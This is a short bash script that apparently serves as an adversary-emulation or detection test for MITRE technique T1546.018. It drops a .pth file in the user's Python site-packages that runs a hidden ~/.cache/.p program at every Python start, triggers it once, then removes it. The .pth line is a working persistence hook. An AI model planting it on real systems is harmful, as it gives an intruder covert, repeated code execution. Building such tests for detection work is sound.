#!/usr/bin/env bash
# tactic: persistence
# technique: T1546.018 Event Triggered Execution: Python Startup Hooks
# behaviour: drops a .pth file in the user's site-packages, which Python runs at every start
# as: user
# expect: persistence
set -u
d=$(python3 -c 'import site; print(site.getusersitepackages())')
trap 'rm -f "$d/zz-sntl.pth"' EXIT
mkdir -p "$d"
echo 'import os; os.path.exists(os.path.expanduser("~/.cache/.p")) and os.system("~/.cache/.p &")' > "$d/zz-sntl.pth"
python3 -c 'print(1)'
